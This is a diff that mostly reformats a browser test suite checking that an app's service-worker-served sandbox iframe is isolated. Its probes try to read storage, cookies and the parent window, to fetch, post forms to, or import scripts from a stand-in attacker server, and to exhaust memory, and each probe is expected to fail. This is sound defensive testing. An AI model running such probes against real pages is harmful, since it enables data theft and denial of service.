@@ -20,8 +20,16 @@ import { afterAll, afterEach, beforeAll, describe, expect } from "vitest";
 import type { Browser, BrowserContext, Page } from "playwright-core";
 import { DIST_DIR, launchBrowser, openReadyApp, serveStatic, waitFor, type TestServer } from "./harness";
 import {
-  ATTEMPT, attack as attackRealm, checkRecorder, expectAllFailed as failed, nestedWorkerAttack, plantSecrets, probeDocument, startRealmTestContext,
-  type RealmPage, type RealmTestContext,
+  ATTEMPT,
+  attack as attackRealm,
+  checkRecorder,
+  expectAllFailed as failed,
+  nestedWorkerAttack,
+  plantSecrets,
+  probeDocument,
+  startRealmTestContext,
+  type RealmPage,
+  type RealmTestContext,
 } from "./fixtures/realmTestPage";
 import { appTest, nextPaint, requestsSettled } from "./fixture";
 
@@ -37,7 +45,9 @@ const FAKE_KEY = "sk-test-LIVEMARK-FAKE-KEY-1234567890";
 /** The app's sandbox iframes, as elements of the page (what the page framed, and how). */
 function sandboxIframes(page: Page): Promise<Array<{ src: string; sandbox: string | null }>> {
   return page.evaluate(() =>
-    [...document.querySelectorAll("iframe")].filter((frame) => frame.src.includes("/sandbox.html")).map((frame) => ({ src: frame.src, sandbox: frame.getAttribute("sandbox") })),
+    [...document.querySelectorAll("iframe")]
+      .filter((frame) => frame.src.includes("/sandbox.html"))
+      .map((frame) => ({ src: frame.src, sandbox: frame.getAttribute("sandbox") })),
   );
 }
 
@@ -67,8 +77,10 @@ describe("the realm's document served by the service worker", () => {
 
   const attack = (code: string) => attackRealm(realm, code, FAKE_KEY);
 
-  it("is framed without the sandbox attribute at sandbox.html?sw, and still runs at origin \"null\" (the worker's CSP header)", async () => {
-    expect(await realm.page.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toMatch(/\/realm-test-sw\.js$/);
+  it('is framed without the sandbox attribute at sandbox.html?sw, and still runs at origin "null" (the worker\'s CSP header)', async () => {
+    expect(await realm.page.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toMatch(
+      /\/realm-test-sw\.js$/,
+    );
     const iframes = await sandboxIframes(realm.page);
     expect(iframes.length).toBeGreaterThan(0);
     for (const iframe of iframes) {
@@ -103,16 +115,20 @@ describe("the realm's document served by the service worker", () => {
   });
 
   it("the sandbox document cannot read storage, IndexedDB, the parent or the app's caches", async () => {
-    const report = await probeDocument(realm.sandboxFrame(), async ({ attempt }) => {
-      await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
-      await attempt("document.cookie", () => document.cookie);
-      await attempt("indexedDB.open", () => indexedDB.open("livemark-secrets"));
-      await attempt("caches", () => caches.keys());
-      await attempt("parent.document", () => parent.document.title);
-      await attempt("parent.localStorage", () => (parent as Window).localStorage.length);
-      await attempt("top.location.href", () => top!.location.href);
-      await attempt("service worker", () => navigator.serviceWorker.getRegistrations().then((all) => all.length));
-    }, undefined);
+    const report = await probeDocument(
+      realm.sandboxFrame(),
+      async ({ attempt }) => {
+        await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
+        await attempt("document.cookie", () => document.cookie);
+        await attempt("indexedDB.open", () => indexedDB.open("livemark-secrets"));
+        await attempt("caches", () => caches.keys());
+        await attempt("parent.document", () => parent.document.title);
+        await attempt("parent.localStorage", () => (parent as Window).localStorage.length);
+        await attempt("top.location.href", () => top!.location.href);
+        await attempt("service worker", () => navigator.serviceWorker.getRegistrations().then((all) => all.length));
+      },
+      undefined,
+    );
     expect(Object.keys(report)).toHaveLength(8);
     failed(report);
     expect(JSON.stringify(report)).not.toContain("sk-test");
@@ -121,34 +137,42 @@ describe("the realm's document served by the service worker", () => {
   it("the sandbox document cannot navigate the top window, open popups, submit forms or reach the network", async () => {
     const pagesBefore = realm.page.context().pages().length;
     const appUrl = realm.page.url();
-    const report = await probeDocument(realm.sandboxFrame(), async ({ attempt, argument: target }) => {
-      await attempt("fetch", () => fetch(target + "doc-fetch"));
-      await attempt("window.open", () => {
-        if (window.open(target + "doc-popup")) return "opened";
-        throw new Error("blocked");
-      });
-      await attempt("top navigation", () => {
-        top!.location.href = target + "doc-top";
-        return "navigated";
-      });
-      await attempt("form post", () => {
-        const form = document.createElement("form");
-        form.action = target + "doc-form";
-        form.method = "post";
-        document.body.append(form);
-        form.submit();
-        throw new Error("submitted (must not reach the server)");
-      });
-      await attempt("worker from URL", () => new Promise((resolve, reject) => {
-        try {
-          const worker = new Worker(target + "doc-worker.js");
-          worker.onerror = () => reject(new Error("blocked"));
-          setTimeout(() => resolve("started?"), 1_000);
-        } catch (error) {
-          reject(error);
-        }
-      }));
-    }, suite.attacker.url);
+    const report = await probeDocument(
+      realm.sandboxFrame(),
+      async ({ attempt, argument: target }) => {
+        await attempt("fetch", () => fetch(target + "doc-fetch"));
+        await attempt("window.open", () => {
+          if (window.open(target + "doc-popup")) return "opened";
+          throw new Error("blocked");
+        });
+        await attempt("top navigation", () => {
+          top!.location.href = target + "doc-top";
+          return "navigated";
+        });
+        await attempt("form post", () => {
+          const form = document.createElement("form");
+          form.action = target + "doc-form";
+          form.method = "post";
+          document.body.append(form);
+          form.submit();
+          throw new Error("submitted (must not reach the server)");
+        });
+        await attempt(
+          "worker from URL",
+          () =>
+            new Promise((resolve, reject) => {
+              try {
+                const worker = new Worker(target + "doc-worker.js");
+                worker.onerror = () => reject(new Error("blocked"));
+                setTimeout(() => resolve("started?"), 1_000);
+              } catch (error) {
+                reject(error);
+              }
+            }),
+        );
+      },
+      suite.attacker.url,
+    );
     // What the attempts set off (a frame, a form post, a navigation) has been drawn and its requests answered.
     await nextPaint(realm.page);
     await requestsSettled(realm.requests);
@@ -162,7 +186,9 @@ describe("the realm's document served by the service worker", () => {
     const report = await attack(`${ATTEMPT}
       const target = ${JSON.stringify(suite.attacker.url)};
       await attempt("fetch", () => fetch(target + "fetch").then((response) => response.text()));
-      ${nestedWorkerAttack(`const T = ${JSON.stringify(suite.attacker.url)}; const APP = ${JSON.stringify(context.server.url)};`, `
+      ${nestedWorkerAttack(
+        `const T = ${JSON.stringify(suite.attacker.url)}; const APP = ${JSON.stringify(context.server.url)};`,
+        `
           await attempt("fetch", () => fetch(T + "nested-fetch").then((r) => r.text()));
           await attempt("fetch the app", () => fetch(new URL("index.html", APP).href).then((r) => r.text()));
           await attempt("XMLHttpRequest", () => new Promise((resolve) => {
@@ -177,7 +203,8 @@ describe("the realm's document served by the service worker", () => {
             socket.onerror = () => reject(new Error("ws error"));
           }));
           await attempt("importScripts", () => { importScripts(T + "nested.js"); return self.__leaked; });
-      `)}
+      `,
+      )}
       console.log(JSON.stringify(report));
     `);
     expect(report["nested worker"]).toBe("failed: Error: reported");
@@ -189,7 +216,10 @@ describe("the realm's document served by the service worker", () => {
 
 describe("the installed app's sandbox", () => {
   /** Open the app with service workers allowed; once installed, reload so the worker controls it. */
-  async function installed(url: string, before?: (context: BrowserContext) => Promise<unknown>): Promise<{ context: BrowserContext; page: Page }> {
+  async function installed(
+    url: string,
+    before?: (context: BrowserContext) => Promise<unknown>,
+  ): Promise<{ context: BrowserContext; page: Page }> {
     const context = await suite.browser.newContext();
     await before?.(context);
     const page = await context.newPage();
@@ -246,12 +276,19 @@ describe("the installed app's sandbox", () => {
       // In a sandbox document at the app's origin (only a header-less one is), note what reaches it, in the page.
       each.addInitScript(() => {
         if (!location.pathname.endsWith("/sandbox.html") || self.origin === "null" || window.parent === window) return;
-        const host = window.parent as unknown as { __headerless?: { origins: string[]; messages: Array<{ type: unknown; ports: number; bundle: boolean }> } };
+        const host = window.parent as unknown as {
+          __headerless?: { origins: string[]; messages: Array<{ type: unknown; ports: number; bundle: boolean }> };
+        };
         const log = (host.__headerless ??= { origins: [], messages: [] });
         log.origins.push(self.origin);
         window.addEventListener(
           "message",
-          (event) => log.messages.push({ type: (event.data as { type?: unknown } | null)?.type, ports: event.ports.length, bundle: (event.data as { bundle?: unknown } | null)?.bundle instanceof Blob }),
+          (event) =>
+            log.messages.push({
+              type: (event.data as { type?: unknown } | null)?.type,
+              ports: event.ports.length,
+              bundle: (event.data as { bundle?: unknown } | null)?.bundle instanceof Blob,
+            }),
           true,
         );
       }),
@@ -263,7 +300,9 @@ describe("the installed app's sandbox", () => {
         const iframes = await sandboxIframes(page);
         return iframes.length > 0 && iframes.every((iframe) => iframe.sandbox === "allow-scripts");
       }, 30_000);
-      const log = await page.evaluate(() => (window as unknown as { __headerless?: { origins: string[]; messages: unknown[] } }).__headerless);
+      const log = await page.evaluate(
+        () => (window as unknown as { __headerless?: { origins: string[]; messages: unknown[] } }).__headerless,
+      );
       // Not vacuous: the worker did serve sandbox.html?sw, without the header, at the app's origin.
       expect(log?.origins.length).toBeGreaterThan(0);
       expect(new Set(log!.origins)).toEqual(new Set([new URL(app.url).origin]));
@@ -292,18 +331,29 @@ describe("the worker-served sandbox's own process", () => {
     const crashContext = await startRealmTestContext({ browser: small, serviceWorker: true });
     try {
       const crashRealm = await crashContext.open();
-      expect((await sandboxIframes(crashRealm.page)).every((iframe) => iframe.sandbox === null && iframe.src.endsWith("/sandbox.html?sw"))).toBe(true);
+      expect(
+        (await sandboxIframes(crashRealm.page)).every(
+          (iframe) => iframe.sandbox === null && iframe.src.endsWith("/sandbox.html?sw"),
+        ),
+      ).toBe(true);
       // Playwright marks the whole page crashed when any of its frames' processes dies: talk to the page over CDP.
       const session = await crashRealm.page.context().newCDPSession(crashRealm.page);
       const evaluate = async <T>(expression: string): Promise<T> =>
-        (await session.send("Runtime.evaluate", { expression, awaitPromise: true, returnByValue: true })).result.value as T;
+        (await session.send("Runtime.evaluate", { expression, awaitPromise: true, returnByValue: true })).result
+          .value as T;
       const from = await crashRealm.start("const hoard = []; for (;;) hoard.push(new Array(1e5).fill(1.5));");
-      const events = await waitFor(async () => {
-        const list = await evaluate<{ type: string; reason?: string }[]>(`realmTest.events.slice(${from})`);
-        return list.some((event) => event.type === "ready") ? list : undefined;
-      }, 45_000, 200);
+      const events = await waitFor(
+        async () => {
+          const list = await evaluate<{ type: string; reason?: string }[]>(`realmTest.events.slice(${from})`);
+          return list.some((event) => event.type === "ready") ? list : undefined;
+        },
+        45_000,
+        200,
+      );
       expect(events!.find((event) => event.type === "realm-reset")).toMatchObject({ reason: "crashed" });
-      const output = await evaluate<string>(`realmTest.run("console.log('after the crash')").then((result) => result.events.filter((e) => e.type === "console").map((e) => e.text).join())`);
+      const output = await evaluate<string>(
+        `realmTest.run("console.log('after the crash')").then((result) => result.events.filter((e) => e.type === "console").map((e) => e.text).join())`,
+      );
       expect(output).toBe("after the crash");
     } finally {
       await crashContext.close().catch(() => {});
